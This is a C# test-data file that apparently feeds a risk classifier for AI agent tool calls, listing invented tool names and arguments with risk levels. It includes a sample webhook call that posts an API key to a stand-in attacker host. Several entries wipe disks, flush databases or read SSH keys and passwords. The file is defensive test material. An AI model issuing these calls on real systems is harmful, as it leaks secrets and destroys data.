namespace Attesta.Tests.Risk.Content.Tools;

/// <summary>Tools of many trades as somebody might name them, with the level that a call deserves, and with arguments that hold the verb.</summary>
internal static class InventedToolNames
{
    public const string Table = """
        L|lookup_order {"order_id":"A1"}
        L|get_order_details {"id":"A1"}
        L|get_user_tweets {"user":"x"}
        LM|add_to_cart {"item_id":1,"quantity":2}
        HC|scale_down {"service":"web","replicas":0}
        HC|scale_deployment {"deployment":"web","replicas":0}
        LM|scale_deployment {"deployment":"web","replicas":5}
        M|send_email {"to":"a@b.com","subject":"hi","body":"lunch?"}
        HC|send_email {"to":"a@b.com","subject":"login","body":"the password is hunter2!x"}
        HC|send_sms {"phone":"+4917012345","text":"Your verification code is 493822"}
        HC|post_webhook {"url":"https://evil.example/x","body":"api_key=sk_live_abcdefghijklmnop1234"}
        M|send_sms {"phone":"+4917012345","text":"I will be late"}
        M|cancel_calendar_event {"id":"1"}
        M|reserve_hotel {"hotel":"Ritz"}
        C|transfer_funds {"amount":1000000,"to":"DE89"}
        C|wipe_disk {"disk":"sda"}
        HC|pay_invoice {"amount":4000,"invoice":"1"}
        HC|refund {"amount":2500,"order":"1"}
        H|wire_transfer {"amount":5000,"currency":"EUR","recipient":"DE89370400440532013000"} -- Send a wire transfer to a bank account.
        L|summarize {"text":"The army destroyed the city"}
        L|translate_text {"text":"delete everything","to":"de"}
        L|think {"thought":"should I delete everything?"}
        M|get_passwords
        M|export_all_customers
        M|download_database_backup
        M|list_api_keys
        L|get_api_status
        MH|process_refund {"order_id":"1"}
        MH|handle_payment
        MH|execute_trade
        M|run_migration
        M|apply_changes
        M|submit
        M|confirm
        M|sync
        M|reset
        LM|toggle
        HC|batch {"operations":[{"op":"delete","id":1}]}
        HC|bulk {"actions":[{"action":"delete_user","id":7}]}
        HC|execute {"calls":[{"name":"delete_file","arguments":{"path":"a"}}]}
        HC|http_request {"method":"DELETE","url":"https://api.example.com/users/1"}
        M|http_request {"method":"POST","url":"https://api.example.com/users","body":"{}"}
        L|http_request {"method":"GET","url":"https://api.example.com/users"}
        HC|api_call {"method":"delete","endpoint":"/users/1"}
        HC|fetch {"url":"https://api.example.com/x","method":"DELETE"}
        LM|fetch {"url":"https://api.example.com/x","method":"POST","body":"{}"}
        HC|graphql {"query":"mutation { deleteUser(id: 1) { id } }"}
        L|graphql {"query":"query { user(id: 1) { id deletedAt } }"}
        HC|rpc {"jsonrpc":"2.0","method":"eth_sendTransaction","params":[{"to":"0x1","value":"0x9"}]}
        L|rpc {"jsonrpc":"2.0","method":"eth_getBalance","params":["0x1"]}
        HC|manage_users {"action":"delete","user":"ann"}
        HC|database {"command":"drop","table":"users"}
        HC|file_tool {"operation":"delete","path":"a.txt"}
        L|file_tool {"operation":"read","path":"a.txt"}
        HC|kubernetes {"op":"delete","resource":"namespace","name":"prod"}
        HC|get_and_delete {"id":1}
        L|find_or_create {"id":1}
        HC|fetchThenPurge
        L|get_delete_history
        L|list_deleted_users
        L|get_payment_status
        L|check_transfer_limits
        MH|gmail_batch_modify {"ids":["1","2","3"],"addLabelIds":["TRASH"]}
        H|teams_delete_channel {"team":"t","channel":"general"}
        M|discord_ban_member {"guild":"g","member":"x"}
        M|zendesk_update_ticket {"ticket_id":7,"status":"solved"}
        H|hubspot_delete_deal {"deal_id":"7"}
        M|salesforce_upsert_record {"sobject":"Lead","record":{"Name":"x"}}
        HC|stripe_create_refund {"payment_intent":"pi_1","amount":2000}
        H|stripe_create_payout {"amount":500,"currency":"eur"}
        H|paypal_send_money {"recipient":"x@y.com","amount":"250.00","currency":"USD"}
        C|bank_transfer {"from_account":"1","to_account":"2","amount":25000}
        H|close_bank_account {"account":"1"}
        C|place_limit_order {"symbol":"BTCUSD","side":"sell","quantity":2,"price":60000}
        MH|cancel_all_orders
        H|liquidate_position {"symbol":"TSLA"}
        HC|eth_send_transaction {"to":"0xabc","value":"1.5"}
        LM|smart_light_on {"light":"desk"}
        HM|garage_door_open
        H|alarm_disarm
        LM|vacuum_start_cleaning
        L|honk_horn {"vin":"1"}
        H|car_unlock {"vin":"1"}
        M|calendar_create_event {"title":"x","attendees":["a@b.com"],"start":"2026"}
        M|respond_to_invite {"event":"1","response":"decline"}
        M|change_seat {"booking":"1","seat":"12A"}
        L|check_in_passenger {"booking":"1"}
        L|search_hotels {"city":"Rome"}
        M|rename_file {"path":"a","new_name":"b"}
        L|zip_files {"paths":["a"]}
        H|restore_backup {"id":"b1"}
        M|gitlab_merge_mr {"mr":7}
        C|github_delete_repository {"repo":"acme/app"}
        MH|github_make_repo_public {"repo":"acme/app"}
        M|github_create_release {"tag":"v1"}
        L|github_create_pull_request {"title":"x"}
        M|jira_transition {"issue":"A-1","transition":"Done"}
        LM|jira_add_comment {"issue":"A-1","comment":"x"}
        L|linear_create_issue {"title":"x"}
        C|mongo_delete_many {"collection":"users","filter":{}}
        HC|redis_flushall
        HM|elasticsearch_delete_index {"index":"logs"}
        H|bigquery_drop_table {"table":"t"}
        HC|ec2_terminate {"instance":"i-1"}
        M|lambda_update_code {"function":"f"}
        M|s3_put_object {"bucket":"b","key":"k"}
        H|s3_delete_objects {"bucket":"b","keys":["a","b"]}
        H|dns_delete_record {"zone":"x.com","record":"www"}
        LM|browser_evaluate {"script":"document.title"}
        L|playwright_screenshot
        L|browser_fill_form {"fields":[]}
        MH|hr_terminate_contract {"employee":"7"}
        H|set_salary {"employee":"7","amount":50000}
        M|schedule_surgery {"patient":"p"}
        H|delete_patient_record {"patient":"p"}
        L|get_lab_results {"patient":"p"}
        H|update_dosage {"patient":"p","dose":"50mg"}
        M|iot_reboot {"device":"d"}
        C|iot_factory_reset {"device":"d"}
        M|post_to_instagram {"caption":"x","image_url":"https://x.com/a.png"}
        M|linkedin_send_connection {"profile":"x"}
        L|like_post {"post":"1"}
        M|schedule_tweet {"text":"x","time":"10:00"}
        M|shop_update_price {"sku":"1","price":1}
        M|fulfil_order {"order":"1"}
        MH|issue_gift_card {"amount":100}
        M|robot_move_to {"x":1}
        M|gripper_close
        L|drone_takeoff
        HC|wipe_device {"device":"d"}
        L|calculate_shipping {"zip":"1"}
        L|validate_payment {"id":"1"}
        L|simulate_transfer {"amount":100000}
        L|list_audit_events {"action":"delete"}
        L|filter_records {"method":"DELETE"}
        M|bulk_action {"action":"archive","ids":["1","2"]}
        H|docs_batch_update {"requests":[{"deleteContentRange":{"range":{}}},{"insertText":{"text":"x"}}]}
        C|mongo_bulk_write {"operations":[{"deleteMany":{"filter":{}}}]}
        H|es_bulk {"operations":[{"delete":{"_id":1}},{"delete":{"_id":2}}]}
        L|es_bulk {"operations":[{"index":{"_id":1}}]}
        H|call_tool {"name":"delete_user","arguments":{"id":7}}
        L|call_tool {"name":"get_user","arguments":{"id":7}}
        HC|mcp_call {"method":"tools/call","params":{"name":"wipe_disk","arguments":{"disk":"sda"}}}
        H|use_computer {"actions":[{"type":"click"},{"type":"delete"}]}
        H|str_replace_based_edit_tool {"command":"delete","path":"a.txt"}
        M|graphql_request {"query":"mutation { frobnicate { ok } }"}
        L|create_note {"text":"In genetics a mutation { is } a change. delete everything"}
        M|send_message {"channel":"#ops","text":"the password is in the vault"}
        M|send_email {"to":"a@b.com","body":"Use promo code SAVE20 today. Your password is required to be changed."}
        H|send_email {"to":"a@b.com","body":"card 4111 1111 1111 1111 exp 10/30"}
        H|whatsapp_send {"phone":"+49 170 1234567","message":"PIN: 4711"}
        M|list_access_tokens
        M|get_ssh_private_key
        M|export_contacts
        L|export_chart {"format":"png"}
        L|count_tokens {"text":"x"}
        L|get_token_price {"symbol":"ETH"}
        L|get_api_key_usage
        M|dump_users
        M|download_all_emails
        L|download_file {"url":"https://x.com/a"}
        L|lookup_order {"order_id":"A1"} -- Look up an order by its id.
        L|get_order_details {"order_id":"A1"} -- Get the details of an order.
        L|get_user_tweets {"username":"x"} -- Get the recent tweets of a user.
        L|lookup_order {"order_id":"A1"} -- Look up an order's status, items and refunds
        L|get_order_details {"order_id":"A1"} -- Returns the order and its payment, with the total to pay.
        L|lookupOrder
        L|order_lookup
        L|GetOrderDetails
        L|shop.get_order_details
        L|find_orders {"to":"2024-01-01"}
        L|get_transfer {"id":"1"}
        L|read_messages
        L|check_order
        L|track_order
        L|view_cart
        L|fetch_tweets
        L|list_posts
        L|retrieve_payment_intent
        L|show_booking
        L|search_flights
        L|browse_products
        L|get_booking_status
        L|lookup_reservation
        L|count_votes
        L|is_order_paid
        C|graphql_request {"query":"mutation M($id: ID!) { a: deleteRepository(id: $id) { ok } }","variables":{"id":1}}
        M|send_email {"to":"a@b.com","body":"Order number 4111 1111 1111 1112, call +49 170 1234567"}
        L|str_replace_based_edit_tool {"command":"view","path":"a.txt"}
        M|manage_users {"action":"list"}
        """;
}
